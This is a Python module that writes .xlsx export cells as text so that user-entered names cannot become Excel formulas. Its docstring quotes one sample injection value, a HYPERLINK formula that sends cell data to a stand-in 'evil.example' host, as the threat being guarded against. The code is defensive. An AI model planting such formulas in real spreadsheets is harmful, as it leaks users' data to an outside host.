"""Writing cells of an .xlsx export: text stays text. Every export writes its values through here.

openpyxl decides a cell's type from the value: a ``str`` starting with ``=`` becomes a formula,
one equal to ``#N/A`` an error, and one holding a control character raises
``IllegalCharacterError``. Names and titles are typed by users of every school (or sent to the
API), and the district's exports span all schools, so a person named
``=HYPERLINK("http://evil.example/?"&B5,"王老师")`` would plant a live link in the district's
Excel, and a title with an invisible U+0001 would make the export fail for everyone.

:func:`append` and :func:`put` therefore write every ``str`` as

* text without the characters XML cannot hold (:func:`keshi.documents.text.strip_control_chars`)
  and cut at Excel's limit of 32 767 characters per cell;
* a string cell (``data_type "s"``): stored in the shared strings, never as ``<f>``, so neither
  Excel nor WPS nor LibreOffice evaluates it; the value itself is unchanged (no apostrophe is
  added: the roster export is imported back and must give the same names);
* with ``quotePrefix`` when it starts like a formula (= + - @, tab, CR): the style Excel itself
  gives to an entry typed with a leading apostrophe, so the cell stays text when someone opens it
  for editing and presses Enter, instead of becoming a formula then.

Numbers, dates, booleans and ``None`` are written as they are (typed cells). :func:`to_bytes`
saves the workbook after a last pass turning any formula left by a direct ``cell.value = …``
into text: keshi writes no formulas.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from keshi.documents.text import strip_control_chars

MAX_CELL_CHARS = 32767  # Excel's limit; a longer cell makes Excel "repair" the file
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text(value: str) -> str:
    return strip_control_chars(value)[:MAX_CELL_CHARS]


def put(cell: Cell, value: Any) -> Cell:
    """``cell.value = value``, a ``str`` as text (see the module docstring)."""
    if isinstance(value, str):
        value = text(value)
        cell.value = value
        cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def append(sheet: Worksheet, values: Iterable[Any]) -> list[Cell]:
    """``sheet.append(values)`` through :func:`put`; returns the row's cells."""
    cells = [put(Cell(sheet), v) for v in values]
    sheet.append(cells)
    return cells


def to_bytes(workbook: Workbook) -> bytes:
    for sheet in workbook.worksheets:
        for cell in sheet._cells.values():  # the cells that exist; iter_rows would create more
            if cell.data_type == "f":
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
